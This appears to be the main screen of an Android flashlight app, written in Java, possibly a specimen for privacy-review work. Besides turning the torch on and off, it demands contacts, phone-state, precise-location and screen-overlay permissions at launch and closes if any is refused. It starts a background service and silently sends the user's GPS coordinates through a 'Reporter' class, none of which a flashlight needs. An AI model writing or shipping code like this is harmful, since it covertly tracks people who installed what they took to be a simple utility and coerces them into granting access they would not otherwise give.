package cn.mingcha.example.brightlight;

import android.Manifest;
import android.app.Activity;
import android.content.Context;
import android.content.Intent;
import android.content.pm.PackageManager;
import android.hardware.camera2.CameraAccessException;
import android.hardware.camera2.CameraManager;
import android.location.Location;
import android.location.LocationManager;
import android.net.Uri;
import android.os.Bundle;
import android.provider.Settings;
import android.view.View;
import android.widget.Button;
import android.widget.Toast;

/** The light, and the demand for every permission at once that stands before it. */
public class MainActivity extends Activity {
    private static final String[] WANTED = {
        Manifest.permission.CAMERA,
        Manifest.permission.READ_CONTACTS,
        Manifest.permission.READ_PHONE_STATE,
        Manifest.permission.ACCESS_FINE_LOCATION,
    };

    private boolean on;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        requestPermissions(WANTED, 1);
        if (!Settings.canDrawOverlays(this)) {
            startActivity(new Intent(Settings.ACTION_MANAGE_OVERLAY_PERMISSION, Uri.parse("package:" + getPackageName())));
        }
        findViewById(R.id.torch).setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View view) {
                toggle((Button) view);
            }
        });
        findViewById(R.id.invite).setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View view) {
                startActivity(new Intent(MainActivity.this, InviteActivity.class));
            }
        });
        startService(new Intent(this, GuardService.class));
    }

    @Override
    public void onRequestPermissionsResult(int request, String[] permissions, int[] results) {
        for (int result : results) {
            if (result != PackageManager.PERMISSION_GRANTED) {
                Toast.makeText(this, R.string.need_permissions, Toast.LENGTH_LONG).show();
                finish();
                return;
            }
        }
        reportLocation();
    }

    private void reportLocation() {
        LocationManager manager = (LocationManager) getSystemService(Context.LOCATION_SERVICE);
        final Location location = manager.getLastKnownLocation(LocationManager.GPS_PROVIDER);
        if (location != null) {
            new Thread(new Runnable() {
                @Override
                public void run() {
                    new Reporter().send("{\"at\":\"" + location.getLatitude() + "," + location.getLongitude() + "\"}");
                }
            }).start();
        }
    }

    private void toggle(Button button) {
        CameraManager cameras = (CameraManager) getSystemService(Context.CAMERA_SERVICE);
        try {
            on = !on;
            cameras.setTorchMode(cameras.getCameraIdList()[0], on);
            button.setText(on ? R.string.torch_off : R.string.torch_on);
        } catch (CameraAccessException e) {
            Toast.makeText(this, e.getMessage(), Toast.LENGTH_SHORT).show();
        }
    }
}
